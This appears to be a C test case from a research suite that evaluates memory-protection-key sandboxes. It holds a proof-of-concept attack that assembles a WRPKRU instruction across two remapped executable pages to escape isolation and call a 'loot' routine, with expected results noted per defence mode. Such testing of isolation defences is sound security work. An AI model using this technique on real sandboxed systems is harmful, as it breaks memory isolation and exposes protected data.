/* Two pages of harmless code are moved next to each other, so that WRPKRU comes to lie across their border. */
/* none: succeeded */
/* no keys: SIGILL */
/* pkey: SIGSEGV */
/* process: SIGILL | succeeded */
#include "code.h"

static int attack(void)
{
	unsigned char *room = memory(4 * PAGE, PROT_NONE);
	unsigned char *a = memory(PAGE, PROT_READ | PROT_WRITE), *b = memory(PAGE, PROT_READ | PROT_WRITE);
	memcpy(a + PAGE - WRPKRU - 1, OPEN, WRPKRU + 1);
	memcpy(b, OPEN + WRPKRU + 1, sizeof OPEN - WRPKRU - 1);
	b[64] = a[0] = 0xc3;
	if (mprotect(a, PAGE, PROT_READ | PROT_EXEC) || mprotect(b, PAGE, PROT_READ | PROT_EXEC))
		return errno;
	((code *)a)();
	((code *)(b + 64))();
	if (mremap(a, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, room) == MAP_FAILED
	    || mremap(b, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, room + PAGE) == MAP_FAILED)
		return errno;
	((code *)(room + PAGE - WRPKRU - 1))();
	return loot();
}
